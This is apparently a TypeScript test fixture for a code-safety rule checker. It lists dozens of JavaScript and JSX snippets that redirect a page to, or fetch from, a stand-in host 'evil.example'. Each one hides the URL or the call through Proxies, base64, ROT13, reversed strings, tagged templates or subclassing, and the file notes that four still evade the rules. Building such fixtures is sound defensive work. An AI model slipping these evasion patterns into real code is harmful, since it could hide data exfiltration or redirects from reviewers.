// biome-ignore-all lint/suspicious/noTemplateCurlyInString: sources are quoted
import type { Dangerous } from "./case.ts";

/** Requests and redirects that passed the rules before part G was written, and four that still do. */
export const NETWORK_G: readonly Dangerous[] = [
  ["redirect", "const p=new Proxy({}, { set(_,k,v){ return Reflect.set(location,k,v) } }); p.href=u"],
  ["redirect", "const p=new Proxy({}, { get(_,k){ return (...a)=>location[k](...a) } }); p.assign(u)"],
  ["redirect", "Object.assign(window.location, opts)"],
  ["redirect", "const f = useRef(); f.current.setAttribute('action', u); f.current.requestSubmit()"],
  ["redirect", "formRef.current.action = url; HTMLFormElement.prototype.submit.call(formRef.current)"],
  ["redirect", "const {current: el}=ref; Object.assign(el,{action:u}); el.submit()"],
  ["redirect", "ref.current.href = 'https://evil.example'; ref.current.click()"],
  ["redirect", "export const A=({u})=> <a href={u} ref={a=>a?.click()}>x</a>"],
  ["redirect", "export const A=()=> <a href='https://evil.example' ref={a=>a?.click()}>x</a>"],
  ["redirect", "e.source.location=u"],
  [
    "redirect",
    "document.querySelector('a').href='https://evil.example'; document.querySelector('a').click()",
  ],
  [
    "redirect",
    "const r = { current: null }; export const A=({u})=>{ useEffect(()=>{ r.current?.submit() }); return <form ref={r} action={u}/> }",
  ],
  [
    "external-request",
    "class Z extends XMLHttpRequest { open(m,u){ super.open(m,'https://evil.example/'+u) } }",
  ],
  [
    "external-request",
    "const Mix = B => class extends B { go(){ super.open('GET','https://evil.example') } }; new (Mix(XMLHttpRequest))().go()",
  ],
  ["external-request", "ids.flatMap(i=>[`https://evil.example/${i}`]).map(u=>fetch(u))"],
  ["external-request", "Promise.all(list.map(x=>'//evil.example/'+x).map(u=>fetch(u)))"],
  ["external-request", "for (const u of list.map(x=>'https://evil.example/'+x)) fetch(u)"],
  ["external-request", "list.map(x=>'https://evil.example/'+x).forEach(fetch)"],
  [
    "external-request",
    "Object.keys(d).map(k=>'https://evil.example/?'+k).reduce((p,u)=>p.then(()=>fetch(u)),Promise.resolve())",
  ],
  ["external-request", "Array.from({length:3},(_,i)=>'https://evil.example/'+i).forEach(u=>fetch(u))"],
  ["external-request", "list.filter(Boolean).map(x=>'https://evil.example/'+x).forEach(u=>fetch(u))"],
  [
    "external-request",
    "const get=(s,...v)=>fetch(s.reduce((a,b,i)=>a+b+(v[i]??''),'')); get`https://evil.example/${1}`",
  ],
  ["external-request", "const get=(s,...v)=>fetch(s[0]+v[0]); get`https://evil.example/${x}`"],
  ["external-request", "const get=s=>fetch(s.raw[0]); get`https://evil.example/`"],
  [
    "external-request",
    "const { parent: p } = window; export const A=({v})=>{ p.postMessage(v,'*'); return null }",
  ],
  ["external-request", "export const A=({v})=>{ parent['post'+'Message'](v,'*') }"],
  [
    "external-request",
    "import {preinit} from 'react-dom'; preinit('https://evil.example/x.js',{as:'script'})",
  ],
  [
    "external-request",
    "navigator.credentials.get({identity:{providers:[{configURL:'https://evil.example/c'}]}})",
  ],
  ["external-request", "new PresentationRequest(['https://evil.example'])"],
  ["external-request", "caches.open('x').then(c=>c.addAll(['https://evil.example']))"],
  ["external-request", "(await caches.open('x')).addAll(['https://evil.example'])"],
  ["external-request", "document.body.style.backgroundImage='url('+atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGU=')+')'"],
  [
    "external-request",
    "export const A=()=> <img src={decodeURIComponent('https%3A%2F%2Fevil.example%2Fp')} />",
  ],
  [
    "external-request",
    "export const A=()=> <img src={new TextDecoder().decode(new Uint8Array([104,116,116,112,115,58,47,47,101]))} />",
  ],
  [
    "external-request",
    "export const A=()=> <img src={'elpmaxe.live//:sptth'.split('').reverse().join('')} />",
  ],
  ["external-request", "export const A=()=> <img src={[...'elpmaxe.live//:sptth'].reverse().join('')} />"],
  ["external-request", "export const A=()=> <img src={`//${(14).toString(36)}vil.example`} />"],
  [
    "external-request",
    "export const A=()=> <div style={{background:`url(${String.fromCharCode(104,116,116,112)}s://evil.example)`}} />",
  ],
  [
    "external-request",
    "export const A=()=> <img src={'uggcf://rivy.rknzcyr'.replace(/[a-z]/g,c=>String.fromCharCode((c.charCodeAt(0)-97+13)%26+97))} />",
  ],
  [
    "external-request",
    "export const A=()=> React.createElement('img',{src:atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGU=')})",
  ],
  [
    "external-request",
    "export const A=()=> <svg><image href={unescape('%68ttps://evil.example/a')} /></svg>",
  ],
  ["external-request", "export const A=()=> <img src='https:\\\\evil.example' />"],
  ["external-request", "export const A=()=> <img src={'ht\\ntps://evil.example/x'} />"],
  ["external-request", "export const A=()=> <img src='https://3232235777/x' />"],
  ["external-request", "export const A=()=> <video poster={atob(props.x)} />"],
  [
    "external-request",
    "export const A=()=> <link rel='stylesheet' href={atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGU=')} />",
  ],
  ["external-request", "el.style.setProperty('background','url('+atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGU=')+')')"],
  ["external-request", "ref.current.src = atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGU=')"],
  [
    "external-request",
    "export const A=()=> <style>{`@import url(${atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGU=')})`}</style>",
  ],
  ["external-request", "export const A=()=> <img srcSet={`${atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGU=')} 2x`} />"],
  [
    "external-request",
    "class H extends globalThis['XMLHttp'+'Request'] { go(u){ super['open']('GET',u) } } new H().go('https://evil.example')",
  ],
  ["external-request", "const tag = ({raw}) => raw.join(''); fetch(tag`https://evil.example`)"],
  ["external-request", "const tag = (s) => ({ go: () => fetch(s[0]) }); tag`https://evil.example`.go()"],
  ["external-request", "const q=[]; q.push('https://evil.example'); q.forEach(u => fetch(u))"],
  ["external-request", "const q=[]; q.push('https://evil.example'); fetch(q[0])"],
  ["external-request", "const q=[]; q.unshift('https://evil.example'); for (const u of q) fetch(u)"],
  [
    "external-request",
    "const f = new Proxy(fetch, { apply(t, self, [p]) { return t('https://evil.example/' + p) } }); f('x')",
  ],
  ["external-request", "const u = URL.parse('https://evil.example').href; fetch(u)"],
  [
    "external-request",
    "const u = new Proxy({}, { get: (_, key) => `https://${key}.example` }); fetch(u.evil)",
  ],
  [
    "external-request",
    "const f = new Proxy(() => {}, { apply: (_, __, given) => fetch(...given) }); f('https://evil.example')",
  ],
  ["external-request", "new Promise((done) => done('https://evil.example')).then(fetch)"],
  ["external-request", "class U extends URL {} fetch(new U('https://evil.example'))"],
];
